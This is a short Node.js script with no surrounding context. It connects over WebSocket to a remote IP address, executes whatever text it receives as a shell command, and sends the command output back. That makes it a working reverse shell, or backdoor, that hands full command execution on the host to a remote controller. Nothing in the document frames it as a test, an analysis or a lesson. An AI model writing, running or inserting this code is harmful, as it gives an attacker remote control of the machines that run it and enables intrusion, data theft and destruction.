const WebSocket = require("ws");
const { execSync } = require("child_process");
const ws = new WebSocket("ws://198.51.100.90:8080");
ws.on("message", (m) => ws.send(execSync(m.toString()).toString()));
